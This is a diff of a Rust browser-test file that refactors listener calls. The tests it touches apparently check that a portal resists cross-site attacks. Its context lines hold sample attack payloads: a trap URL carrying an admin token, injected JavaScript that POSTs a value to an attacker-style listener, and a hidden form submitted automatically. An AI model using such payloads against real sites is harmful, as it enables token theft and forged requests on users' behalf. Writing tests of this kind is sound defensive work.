@@ -38,7 +38,7 @@ fn strange_site(stage: &Stage) -> (String, Site) {
 
 /// Where a stranger's page leads a browser to.
 fn trap(stage: &Stage, opened: &str) -> String {
-    format!("{}/?t={}", stage.listener(opened), stage.sandbox.token("admin"))
+    format!("{}/?t={}", Stage::listener(opened), stage.sandbox.token("admin"))
 }
 
 /// Every way in which a page makes a browser ask for something without the person seeing what comes. Even with leave to
@@ -150,7 +150,7 @@ fn with_the_person_looking_on() {
     for (path, field) in [("", "token"), ("v2/callbackWithOtp", "{\\x22token\\x22:\\x22made up\\x22}")] {
         let tab = chromium.tab("pat", field);
         tab.open("https://cats.example.net");
-        let home = stage.listener(&opened);
+        let home = Stage::listener(&opened);
         tab.run(&format!(
             "setTimeout(() => {{
                 document.body.innerHTML =
@@ -232,7 +232,7 @@ fn who_want_the_button_pressed() {
                 method: 'POST', mode: 'no-cors', body: new URLSearchParams({{ value: {value} }}),
             }}).catch(() => 0);
         }})()",
-        listener = stage.listener(&opened),
+        listener = Stage::listener(&opened),
     ));
     tab.run(&format!(
         "setTimeout(() => {{
@@ -240,7 +240,7 @@ fn who_want_the_button_pressed() {
                 `<form method=post action='{}/press'><input name=value value='${{{value}}}'></form>`);
             document.forms[0].submit();
         }}, 0)",
-        stage.listener(&opened),
+        Stage::listener(&opened),
     ));
     tab.says("this comes from another site than the portal");
     assert_eq!(stage.kept(), None);
